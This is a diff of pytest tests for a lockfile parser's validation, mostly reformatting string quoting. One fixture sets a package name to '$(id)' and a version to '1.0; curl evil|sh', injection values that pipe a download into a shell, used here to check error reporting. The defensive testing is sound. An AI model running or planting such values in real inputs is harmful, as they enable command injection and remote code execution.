@@ -84,8 +84,8 @@ def test_a6_duplicate_keys_and_tables_are_errors():
 
 def test_a6_duplicate_packages_after_normalisation():
     text = VALID_HEAD + (
-        "[[python.packages]]\nname = \"Foo_Bar\"\nversion = \"1.0\"\n"
-        "[[python.packages]]\nname = \"foo-bar\"\nversion = \"1.0\"\n"
+        '[[python.packages]]\nname = "Foo_Bar"\nversion = "1.0"\n'
+        '[[python.packages]]\nname = "foo-bar"\nversion = "1.0"\n'
     )
     with pytest.raises(LockfileError, match=r"python\.packages\[1\]\.name: 'foo-bar' duplicates python\.packages\[0\]"):
         _load(text)
@@ -96,10 +96,19 @@ def test_a6_duplicate_packages_after_normalisation():
     [
         ("bogus = 1", "bogus: unknown key"),
         ("[python]\nversion = 3", "python.version: must be a string, not an integer"),
-        ('[[python.packages]]\nname = ["x"]\nversion = "1"', r"python.packages\[0\].name: must be a string, not an array"),
-        ("[[nvidia.gpus]]\nname = \"A100\"\nmemory-total-mib = nan", r"nvidia.gpus\[0\].memory-total-mib: must be an integer, not a float"),
-        ("[[nvidia.gpus]]\nname = \"A100\"\nmemory-total-mib = inf", r"memory-total-mib: must be an integer, not a float"),
-        ("[[nvidia.gpus]]\nname = \"A100\"\nmemory-total-mib = 99999999999999999999999", "out of range"),
+        (
+            '[[python.packages]]\nname = ["x"]\nversion = "1"',
+            r"python.packages\[0\].name: must be a string, not an array",
+        ),
+        (
+            '[[nvidia.gpus]]\nname = "A100"\nmemory-total-mib = nan',
+            r"nvidia.gpus\[0\].memory-total-mib: must be an integer, not a float",
+        ),
+        (
+            '[[nvidia.gpus]]\nname = "A100"\nmemory-total-mib = inf',
+            r"memory-total-mib: must be an integer, not a float",
+        ),
+        ('[[nvidia.gpus]]\nname = "A100"\nmemory-total-mib = 99999999999999999999999', "out of range"),
         ('"" = 1', ": unknown key"),
         ('[python]\nversion = "' + "1" * 300 + '"', "python.version: is 300 characters long"),
     ],
@@ -112,8 +121,8 @@ def test_a7_schema_errors_name_the_field(snippet, expected):
 def test_a7_all_problems_are_reported_together():
     text = VALID_HEAD + (
         "[python]\nversion = 3\n"
-        "[[python.packages]]\nname = \"ok\"\nversion = \"1.0\"\n"
-        "[[python.packages]]\nname = \"$(id)\"\nversion = \"1.0; curl evil|sh\"\n"
+        '[[python.packages]]\nname = "ok"\nversion = "1.0"\n'
+        '[[python.packages]]\nname = "$(id)"\nversion = "1.0; curl evil|sh"\n'
     )
     with pytest.raises(LockfileError) as info:
         _load(text)
